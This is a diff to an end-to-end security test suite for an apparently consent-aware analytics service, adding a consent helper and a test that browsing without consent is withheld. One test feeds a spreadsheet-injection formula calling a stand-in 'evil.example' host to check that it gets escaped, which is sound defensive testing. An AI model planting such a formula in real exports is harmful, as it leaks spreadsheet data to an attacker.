@@ -11,7 +11,7 @@ import pytest
 
 from shared.trust import new_visitor_id
 from tests.e2e.conftest import eventually
-from tests.security.conftest import ANNA, admin, api, as_text, backend, bundle, outbox_link, signed_in, token_of
+from tests.security.conftest import ANNA, admin, api, as_text, backend, bundle, consented, outbox_link, signed_in, token_of
 
 pytestmark = [pytest.mark.e2e, pytest.mark.security]
 ATTACKER = "mallory@example.net"
@@ -152,7 +152,7 @@ def test_an_unsubscribe_for_a_customer_needs_their_session_or_the_mailed_link(ru
 
 # ---------------------------------------------------------------- attacker text stays data
 def test_a_storefront_purchase_carries_no_revenue(runtime, customers):
-    visitor = new_visitor_id()
+    visitor = consented(runtime, new_visitor_id())
     status, answer = api(runtime, "POST", "/v1/events", {"events": [
         event("purchase", anonymous_id=visitor, value="9999999999.00", currency="EUR", item_id="sku-1")]})
     assert (status, answer["accepted"], answer["changed"][0]["index"]) == (202, 1, 0)
@@ -161,9 +161,8 @@ def test_a_storefront_purchase_carries_no_revenue(runtime, customers):
 
 
 def test_a_formula_in_a_search_term_is_escaped_in_the_access_bundle(runtime, customers):
-    visitor = new_visitor_id()
+    visitor = consented(runtime, new_visitor_id())
     formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
-    assert api(runtime, "PUT", f"/v1/consents/{visitor}", {"purposes": {"analytics": True}, "source": "banner", "policy_version": "v1"})[0] == 200
     api(runtime, "POST", "/v1/events", {"events": [event("search", anonymous_id=visitor, query=formula)]})
     eventually(lambda: admin(runtime, "GET", f"/v1/profiles/{visitor}")[0] == 200, 30)
     status, created = api(runtime, "POST", "/v1/privacy-requests", {"type": "access", "subject_id": visitor, "contact": "me@example.org"})
@@ -213,13 +212,19 @@ def test_server_routes_need_the_backends_credential(runtime, customers):
     assert (status, answer["accepted"], answer["changed"]) == (202, 1, [])
 
 
-# ---------------------------------------------------------------- not built yet (issue 17, points 4 and 6): strict xfails
-@pytest.mark.xfail(strict=True, reason="issue 17 point 4, open: POST /v1/events does not yet enforce consent at the door")
-def test_browsing_of_a_visitor_without_analytics_consent_is_not_stored(runtime, customers):
+# ---------------------------------------------------------------- consent at the door
+def test_browsing_of_a_visitor_without_consent_is_answered_but_not_stored(runtime, customers):
     visitor = new_visitor_id()
-    api(runtime, "POST", "/v1/events", {"events": [event("product_view", anonymous_id=visitor, item_id="sku-1")]})
-    time.sleep(3)
-    assert admin(runtime, "GET", f"/v1/profiles/{visitor}")[0] == 404
+    status, answer = api(runtime, "POST", "/v1/events", {"events": [event("product_view", anonymous_id=visitor, item_id="sku-1")]})
+    assert (status, answer["accepted"], answer["withheld"]) == (202, 1, 1), answer
+    assert api(runtime, "PUT", f"/v1/consents/{visitor}", {"purposes": {"analytics": True}, "source": "banner", "policy_version": "v1"})[0] == 200
+    eventually(lambda: api(runtime, "POST", "/v1/events", {"events": [
+        event("product_view", anonymous_id=visitor, item_id="sku-1")]})[1]["withheld"] == 0, 30)  # once the projection has it
+    assert eventually(lambda: admin(runtime, "GET", f"/v1/profiles/{visitor}")[1].get("interactions"), 30)["total"] >= 1
+    # Withdrawn: stored no more.
+    assert api(runtime, "PUT", f"/v1/consents/{visitor}", {"purposes": {"analytics": False}, "source": "banner", "policy_version": "v1"})[0] == 200
+    eventually(lambda: api(runtime, "POST", "/v1/events", {"events": [
+        event("search", anonymous_id=visitor, query="tent")]})[1]["withheld"] == 1, 30)
 
 
 def test_a_category_or_brand_not_in_the_published_catalog_is_dropped(runtime, customers):
@@ -232,7 +237,7 @@ def test_a_category_or_brand_not_in_the_published_catalog_is_dropped(runtime, cu
 
 
 def test_thousands_of_made_up_search_terms_do_not_grow_a_profile(runtime, customers):
-    visitor = new_visitor_id()
+    visitor = consented(runtime, new_visitor_id())
     for start in range(0, 300, 100):
         api(runtime, "POST", "/v1/events", {"events": [event("search", anonymous_id=visitor, query=f"term {i} {visitor}")
                                                        for i in range(start, start + 100)]})
@@ -244,6 +249,7 @@ def test_thousands_of_made_up_search_terms_do_not_grow_a_profile(runtime, custom
 
 
 def test_a_sensitive_category_never_becomes_a_segment(runtime, customers):
+    consented(runtime, "C-1002", signed_in(runtime, "C-1002"))
     api(runtime, "POST", "/v1/server/events", {"events": [
         event("product_view", customer_id="C-1002", item_id="sku-2", category="health", event_id=f"health-view-{i:04d}")
         for i in range(30)]}, backend(runtime))
